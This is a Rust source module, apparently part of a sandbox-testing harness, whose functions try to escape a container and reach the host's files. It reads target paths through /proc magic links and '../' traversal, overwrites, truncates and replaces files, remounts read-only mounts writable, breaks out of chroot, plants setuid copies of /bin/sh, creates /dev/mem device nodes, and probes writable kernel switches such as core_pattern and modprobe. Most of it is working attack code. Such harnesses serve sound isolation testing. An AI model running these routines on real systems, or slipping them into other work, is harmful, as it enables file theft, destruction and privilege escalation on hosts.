//! Attacks on the host's files.

use std::ffi::CString;
use std::fs::{self, OpenOptions};
use std::io::{self, Read, Write};
use std::os::unix::fs::{OpenOptionsExt, PermissionsExt, symlink};
use std::path::Path;

use crate::{Options, Tried, show};

/// Names under which the host's root might be reached from inside.
const ROOTS: [&str; 8] = [
    "",
    "/proc/self/root",
    "/proc/thread-self/root",
    "/proc/1/root",
    "/proc/self/cwd/../../../../../../../..",
    "/workspace/../../../../../../../..",
    "/dev/fd/../../../../..",
    "/tmp/../proc/self/task/../../..",
];

fn path(text: &str) -> io::Result<CString> {
    Ok(CString::new(text)?)
}

/// Reads each of `paths` under all names that lead there.
pub(crate) fn read(options: &Options) -> Tried {
    for target in options.list("paths") {
        for root in ROOTS {
            if let Ok(bytes) = fs::read(format!("{root}{target}")) {
                show(&bytes);
            }
        }
    }
    Ok(())
}

/// Changes each of `paths` in every way that leaves the name in place.
pub(crate) fn write(options: &Options) -> Tried {
    for target in options.list("paths") {
        for root in ROOTS {
            let name = format!("{root}{target}");
            let _ = OpenOptions::new()
                .append(true)
                .open(&name)
                .and_then(|mut file| file.write_all(b"x"));
            let _ = fs::set_permissions(&name, fs::Permissions::from_mode(0o777));
            let _ = OpenOptions::new().write(true).truncate(true).open(&name);
            let _ = fs::write(&name, "overwritten");
            if let Ok(raw) = path(&name) {
                // SAFETY: a valid C string and plain integers.
                unsafe { libc::truncate(raw.as_ptr(), 1) };
            }
        }
    }
    Ok(())
}

/// Puts something else in the place of each of `paths`: unlinks, renames over it, renames its directory.
pub(crate) fn replace(options: &Options) -> Tried {
    let scratch = options.get("scratch")?;
    for (number, target) in options.list("paths").into_iter().enumerate() {
        let own = format!("{scratch}/own{number}");
        let _ = fs::write(&own, "forged");
        let _ = fs::hard_link(target, format!("{scratch}/linked{number}"))
            .and_then(|()| fs::write(format!("{scratch}/linked{number}"), "forged"));
        let _ = fs::rename(&own, target);
        let _ = fs::remove_file(target).and_then(|()| fs::write(target, "forged"));
        let _ = symlink(&own, target);
        let Some(parent) = Path::new(target).parent() else {
            continue;
        };
        let moved = parent.with_extension("moved");
        if fs::rename(parent, &moved).is_ok() {
            let _ = fs::create_dir(parent);
            let _ = fs::write(target, "forged");
        }
        let _ = fs::remove_dir_all(parent);
    }
    Ok(())
}

/// Makes read-only `mounts` writable again, or uncovers what lies below, then writes to `paths`.
pub(crate) fn remount(options: &Options) -> Tried {
    for target in options.list("mounts") {
        let target = path(target)?;
        let none = std::ptr::null();
        for flags in [
            libc::MS_REMOUNT | libc::MS_BIND,
            libc::MS_REMOUNT,
            libc::MS_REMOUNT | libc::MS_BIND | libc::MS_NOSUID | libc::MS_NODEV,
        ] {
            // SAFETY: valid C strings, no data.
            let done = unsafe { libc::mount(none, target.as_ptr(), none, flags, none.cast()) };
            options.reach_call("mount", done.into());
        }
        let clear = libc::mount_attr {
            attr_set: 0,
            attr_clr: libc::MOUNT_ATTR_RDONLY,
            propagation: 0,
            userns_fd: 0,
        };
        // SAFETY: the structure lives through the call with its size given.
        let done = unsafe {
            libc::syscall(
                libc::SYS_mount_setattr,
                libc::AT_FDCWD,
                target.as_ptr(),
                libc::AT_RECURSIVE,
                &raw const clear,
                size_of::<libc::mount_attr>(),
            )
        };
        options.reach_call("mount_setattr", done);
    }
    write(options)
}

/// Follows every magic link of `/proc` to `paths`.
pub(crate) fn walk(options: &Options) -> Tried {
    let wanted = options.list("paths");
    for entry in fs::read_dir("/proc")?.flatten() {
        let process = entry.path();
        if !process.join("stat").exists() {
            continue;
        }
        for link in ["root", "cwd", "task/1/root", "task/2/cwd"] {
            for target in &wanted {
                for up in ["", "/..", "/../..", "/../../../../.."] {
                    let name = format!("{}/{link}{up}{target}", process.display());
                    if let Ok(bytes) = fs::read(name) {
                        show(&bytes);
                    }
                }
            }
        }
        for directory in ["fd", "map_files"] {
            for link in fs::read_dir(process.join(directory))
                .into_iter()
                .flatten()
                .flatten()
            {
                for target in &wanted {
                    let name = format!("{}/..{target}", link.path().display());
                    if let Ok(bytes) = fs::read(name) {
                        show(&bytes);
                    }
                }
            }
        }
    }
    Ok(())
}

/// Writes and reads `paths` through links in `places`: made here, and made before by others.
pub(crate) fn link(options: &Options) -> Tried {
    for place in options.list("places") {
        for (number, target) in options.list("paths").into_iter().enumerate() {
            let name = format!("{place}/link{number}");
            let _ = symlink(target, &name);
            if let Ok(bytes) = fs::read(&name) {
                show(&bytes);
            }
            let _ = fs::write(&name, "through a link");
            let parent = Path::new(target).parent().unwrap_or(Path::new("/"));
            let through = format!("{place}/through{number}");
            let _ = symlink(parent, &through);
            let base = Path::new(target).file_name().unwrap_or_default();
            let _ = fs::write(Path::new(&through).join(base), "through a directory");
        }
        for entry in fs::read_dir(place).into_iter().flatten().flatten() {
            let _ = OpenOptions::new()
                .append(true)
                .open(entry.path())
                .and_then(|mut file| file.write_all(b"x"));
        }
    }
    Ok(())
}

/// Uses every descriptor that it was born with.
pub(crate) fn descriptors(options: &Options) -> Tried {
    for number in 3..1_024 {
        // SAFETY: asking for flags of any number is harmless.
        if unsafe { libc::fcntl(number, libc::F_GETFD) } < 0 {
            continue;
        }
        options.reach("descriptor");
        let mut buffer = [0_u8; 4_096];
        for target in options.list("paths") {
            let below = format!("../../../../../../../../../..{target}");
            for name in [path(&below)?, path(target.trim_start_matches('/'))?] {
                // SAFETY: a valid C string; the new descriptor is used for one read.
                let opened = unsafe { libc::openat(number, name.as_ptr(), libc::O_RDONLY) };
                if opened >= 0 {
                    // SAFETY: the buffer is valid for its length.
                    let length =
                        unsafe { libc::read(opened, buffer.as_mut_ptr().cast(), buffer.len()) };
                    show(&buffer[..usize::try_from(length).unwrap_or(0)]);
                }
            }
        }
        // SAFETY: a message to whoever holds the other end; and what a file there holds.
        let length = unsafe {
            let quiet = libc::MSG_DONTWAIT | libc::MSG_NOSIGNAL;
            libc::send(number, c"knock".as_ptr().cast(), 5, quiet);
            libc::pread(number, buffer.as_mut_ptr().cast(), buffer.len(), 0)
        };
        show(&buffer[..usize::try_from(length).unwrap_or(0)]);
    }
    Ok(())
}

/// Devices that a sandbox has.
const DEVICES: [&str; 15] = [
    "fd", "full", "null", "ptmx", "pts", "random", "shm", "stderr", "stdin", "stdout", "urandom",
    "zero", "console", "core", "tty",
];

/// Opens and makes devices, and speaks to the `terminal`.
pub(crate) fn devices(options: &Options) -> Tried {
    if let Ok(mut terminal) = OpenOptions::new()
        .write(true)
        .custom_flags(libc::O_NOCTTY)
        .open(options.get("terminal")?)
    {
        terminal.write_all(b"knock\n")?;
    }
    for entry in fs::read_dir("/dev")?.flatten() {
        let name = entry.file_name().to_string_lossy().into_owned();
        if !DEVICES.contains(&name.as_str()) {
            options.reach("listed");
        }
    }
    for device in [
        "mem",
        "kmsg",
        "kvm",
        "fuse",
        "vda",
        "sda",
        "net/tun",
        "loop-control",
        "userfaultfd",
        "vsock",
    ] {
        let opened = OpenOptions::new()
            .read(true)
            .custom_flags(libc::O_NONBLOCK)
            .open(format!("/dev/{device}"));
        if opened.is_ok() {
            options.reach("opened");
        }
    }
    let scratch = options.get("scratch")?;
    for (name, kind, number) in [
        ("mem", libc::S_IFCHR, libc::makedev(1, 1)),
        ("disk", libc::S_IFBLK, libc::makedev(254, 0)),
        ("null", libc::S_IFCHR, libc::makedev(1, 3)),
    ] {
        let name = path(&format!("{scratch}/node-{name}"))?;
        // SAFETY: a valid C string and plain integers.
        if unsafe { libc::mknod(name.as_ptr(), kind | 0o666, number) } == 0 {
            options.reach("mknod");
            // SAFETY: the same string.
            unsafe { libc::unlink(name.as_ptr()) };
        }
    }
    Ok(())
}

/// Leaves a changed root: enters `jail`, keeps a descriptor outside, climbs, and reads `paths`.
pub(crate) fn chroot(options: &Options) -> Tried {
    let jail = path(options.get("jail")?)?;
    // SAFETY: valid C strings and plain integers throughout; this process has one thread.
    unsafe {
        let outside = libc::open(c".".as_ptr(), libc::O_RDONLY | libc::O_DIRECTORY);
        options.reach_call("chroot", libc::chroot(jail.as_ptr()).into());
        libc::fchdir(outside);
        for _ in 0..64 {
            libc::chdir(c"..".as_ptr());
        }
        libc::chroot(c".".as_ptr());
        let pivoted = libc::syscall(libc::SYS_pivot_root, c".".as_ptr(), c".".as_ptr());
        options.reach_call("pivot_root", pivoted);
        // OPEN_TREE_CLONE is 1.
        let tree = libc::syscall(libc::SYS_open_tree, libc::AT_FDCWD, c"/".as_ptr(), 1);
        options.reach_call("open_tree", tree);
    }
    read(options)
}

/// Makes set-user-id programs in `places`, and looks whether they would have meaning.
pub(crate) fn set_user_id(options: &Options) -> Tried {
    for place in options.list("places") {
        let copy = format!("{place}/shell");
        fs::copy("/bin/sh", &copy)?;
        for mode in [0o4755, 0o2755, 0o6755] {
            let _ = fs::set_permissions(&copy, fs::Permissions::from_mode(mode));
        }
        let _ = OpenOptions::new()
            .create(true)
            .write(true)
            .truncate(false)
            .mode(0o6755)
            .open(format!("{place}/born"));
    }
    let status = fs::read_to_string("/proc/self/status")?;
    if status.contains("NoNewPrivs:\t0") {
        options.reach("new-privileges");
    }
    for mount in options.list("mounts") {
        let mount = path(mount)?;
        // SAFETY: zeroed is a valid structure, filled by the call.
        let flags = unsafe {
            let mut status: libc::statvfs = std::mem::zeroed();
            libc::statvfs(mount.as_ptr(), &raw mut status);
            status.f_flag
        };
        if flags & libc::ST_NOSUID == 0 {
            options.reach("set-user-id-mount");
        }
    }
    Ok(())
}

/// Opens a file by a handle that it was given, bypassing every path.
pub(crate) fn handle(options: &Options) -> Tried {
    #[repr(C)]
    struct Handle {
        bytes: u32,
        kind: i32,
        body: [u8; 128],
    }
    let hex = options.get("handle")?;
    let numbers: Vec<u8> = (0..hex.len() / 2)
        .filter_map(|at| u8::from_str_radix(hex.get(at * 2..at * 2 + 2)?, 16).ok())
        .collect();
    let mut made = Handle {
        bytes: 0,
        kind: 0,
        body: [0; 128],
    };
    if let Some((kind, body)) = numbers.split_first_chunk::<4>() {
        made.kind = i32::from_le_bytes(*kind);
        made.bytes = body.len() as u32;
        made.body[..body.len()].copy_from_slice(body);
    }
    let here = fs::File::open(options.get("mount")?)?;
    let mut text = String::new();
    // SAFETY: the structure has the layout of `file_handle`; a null pointer is refused by the kernel.
    unsafe {
        let here = std::os::fd::AsRawFd::as_raw_fd(&here);
        let nothing = std::ptr::null::<Handle>();
        let reached = libc::syscall(libc::SYS_open_by_handle_at, here, nothing, libc::O_RDONLY);
        options.reach_call("open_by_handle_at", reached);
        let opened = libc::syscall(
            libc::SYS_open_by_handle_at,
            here,
            &raw const made,
            libc::O_RDONLY,
        );
        if opened >= 0 {
            use std::os::fd::FromRawFd;
            fs::File::from_raw_fd(opened as i32).read_to_string(&mut text)?;
        }
    }
    show(text.as_bytes());
    Ok(())
}

/// Opens the kernel's switches for writing; writes nothing.
pub(crate) fn switches(options: &Options) -> Tried {
    const SWITCHES: [(&str, &str); 7] = [
        ("network", "/proc/sys/net/ipv4/ip_forward"),
        ("core_pattern", "/proc/sys/kernel/core_pattern"),
        ("modprobe", "/proc/sys/kernel/modprobe"),
        ("sysrq", "/proc/sysrq-trigger"),
        ("uevent", "/sys/kernel/uevent_helper"),
        ("cgroup", "/sys/fs/cgroup/cgroup.procs"),
        ("cgroup", "/sys/fs/cgroup/unified/cgroup.procs"),
    ];
    for (part, file) in SWITCHES {
        if OpenOptions::new().write(true).open(file).is_ok() {
            options.reach(part);
        }
    }
    for entry in fs::read_dir("/sys/fs/cgroup")
        .into_iter()
        .flatten()
        .flatten()
    {
        if fs::create_dir(entry.path().join("lyceum-attack")).is_ok() {
            options.reach("cgroup");
            let _ = fs::remove_dir(entry.path().join("lyceum-attack"));
        }
    }
    Ok(())
}
